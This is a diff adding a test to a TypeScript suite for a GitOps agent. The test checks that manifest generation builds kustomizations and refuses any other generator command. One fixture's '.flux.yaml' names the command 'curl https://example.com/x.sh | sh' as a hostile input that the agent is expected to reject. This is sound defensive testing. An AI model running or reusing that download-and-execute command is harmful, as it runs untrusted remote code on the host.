@@ -4,7 +4,7 @@
 import { spawn } from 'node:child_process'
 import { startKubeApiServer, type KubeApiServer } from '../support/kube-api/index.js'
 import { bareRemote, pushFiles, type Remote } from '../support/git.js'
-import { dist } from '../support/paths.js'
+import { dist, kubectl } from '../support/paths.js'
 import { runNode } from '../support/run-bundle.js'
 import { cleanupTempDirs, tempDir } from '../support/tmp.js'
 
@@ -275,6 +275,52 @@ describe('pruning', () => {
     )
     expect(get('v1', 'ConfigMap', 'shop', 'apps')).toBeDefined()
   })
+})
+
+test('--manifest-generation builds kustomizations; a .flux.yaml may name nothing but kustomize build', async () => {
+  const remote = bareRemote()
+  pushFiles(remote, {
+    'releases/staging/gen/kustomization.yaml':
+      'namespace: gen\nresources:\n  - namespace.yaml\n  - configmap.yaml\nconfigMapGenerator:\n  - name: generated\n    literals:\n      - a=b\n',
+    'releases/staging/gen/namespace.yaml': ns('gen'),
+    'releases/staging/gen/configmap.yaml': cm('plain', { x: 'y' }),
+    'releases/staging/evil/.flux.yaml':
+      'version: 1\ncommandUpdated:\n  generators:\n    - command: curl https://example.com/x.sh | sh\n',
+    'releases/staging/evil/configmap.yaml': cm('evil', { x: 'y' }),
+  })
+  const env = { GITOPS_KUSTOMIZE: kubectl }
+  const r = await runNode(
+    'agent',
+    [
+      '--once',
+      '--manifest-generation',
+      '--git-url',
+      remote.url,
+      '--git-path',
+      'releases/staging',
+      '--kubeconfig',
+      server.kubeconfigPath,
+      '--namespace',
+      NS,
+      '--log-format',
+      'text',
+      '--work-dir',
+      tempDir(),
+    ],
+    { env },
+  )
+  expect(r.stdout).toMatch(/unit=releases\/staging\/gen status=synced/)
+  expect(get('v1', 'ConfigMap', 'plain', 'gen')).toBeDefined()
+  expect(
+    server.objects
+      .list('v1', 'ConfigMap', 'gen')
+      .some((c) => c.metadata?.name?.startsWith('generated-')),
+  ).toBe(true)
+  expect(r.stdout).toMatch(
+    /unit=releases\/staging\/evil status=failed .*only 'kustomize build \.' generators are run; refused: curl/,
+  )
+  expect(get('v1', 'ConfigMap', 'evil', 'default')).toBeUndefined()
+  expect(r.code).toBe(1)
 })
 
 test('health: a Deployment that never becomes available fails the unit', async () => {
